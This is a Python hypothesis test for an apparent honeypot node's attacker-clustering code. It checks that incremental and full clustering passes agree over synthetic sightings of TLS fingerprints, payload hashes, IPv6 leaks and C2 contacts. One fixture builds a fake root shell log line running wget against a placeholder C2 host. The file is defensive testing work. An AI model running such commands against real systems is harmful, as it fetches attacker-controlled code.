"""An incremental clustering pass gives exactly what a full pass gives.

Random sources share random tool fingerprints, payloads, C2 hosts and
EUI-64 interface ids, arriving in random batches, each followed by an
incremental pass (never the full-pass shortcut). After each, a full pass over
the same store must change nothing: not a group, not an id, not a pointer.
The rarity thresholds are lowered so a handful of sources crosses them and
values turn from rare to weighted to common as batches arrive.
"""

from __future__ import annotations

import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from node.cluster import rarity
from node.cluster.stage import node_stages, run_pass
from node.event import Event
from node.ingest.detect import parse_line
from node.profile.profiler import Profiler
from node.store import Store

_STAGES = node_stages(full_pass_share=1.0)  # never the full-pass shortcut
_IPS = [f"198.18.0.{i}" for i in range(1, 13)]


def _line(i: int, ip: str, kind: str, value: int) -> Event:
    stamp = f"2026-03-02T09:{i // 60 % 60:02d}:{i % 60:02d}+00:00"
    if kind == "ja3":
        sd = f'tls_client_hello [relay@55555 src_ip="{ip}" ja3="{value:032x}"]'
        return parse_line(f"<134>1 {stamp} web-02 sniffer - {sd}".encode())
    if kind == "payload":
        sd = f'file_captured [relay@55555 src_ip="{ip}" sha256="{value:064x}"]'
        return parse_line(f"<134>1 {stamp} web-02 smb - {sd}".encode())
    if kind == "eui64":
        sd = (f'ipv6_link_local_leak [relay@55555 target_ip="{ip}" target_port="-"'
              f' ipv6_addr="fe80::211:22ff:fe33:44{value:02x}"]')
        return parse_line(f"<134>1 {stamp} decnet-prober prober - {sd}".encode())
    return parse_line(f"<14>1 {stamp} web-02 bash - - -  CMD uid=0 src={ip}"
                      f" cmd=wget http://c2-{value}.crew-net.org/x".encode())


_SIGHTINGS = st.lists(st.tuples(st.sampled_from(_IPS),
                                st.sampled_from(["ja3", "payload", "eui64", "c2"]),
                                st.integers(0, 2)), min_size=1, max_size=60)


async def _groups(store: Store) -> list[tuple[object, ...]]:
    return [*await store.fetch("SELECT id, merged_into, confidence FROM identities ORDER BY id"),
            *await store.fetch("SELECT 'c', id, merged_into FROM campaigns ORDER BY id")]


@pytest.fixture(autouse=True)
def small_thresholds(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rarity, "RARE", 2)
    monkeypatch.setattr(rarity, "COMMON", 6)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                  HealthCheck.function_scoped_fixture])
@given(_SIGHTINGS, st.lists(st.integers(1, 60), max_size=8))
@example([(_IPS[0], "ja3", 0), (_IPS[1], "ja3", 0),  # linked by a rare client …
          *((ip, "ja3", 0) for ip in _IPS[2:8])], [2])  # … that turns common in one batch
async def test_an_incremental_pass_equals_a_full_one(sightings: list[tuple[str, str, int]],
                                                     cuts: list[int]) -> None:
    events = [_line(i, ip, kind, value) for i, (ip, kind, value) in enumerate(sightings)]
    bounds = sorted({0, len(events), *(c for c in cuts if c < len(events))})
    with tempfile.TemporaryDirectory() as tmp:
        store = await Store.open(Path(tmp) / "node.db", profilers=[Profiler()], stages=_STAGES)
        try:
            for start, end in zip(bounds, bounds[1:], strict=False):
                await store.write_batch(events[start:end])
                await store.catch_up()  # incremental after the first
                incremental = await _groups(store)
                await store.write_job(run_pass)  # a full pass over the same data
                assert await _groups(store) == incremental
        finally:
            await store.close()
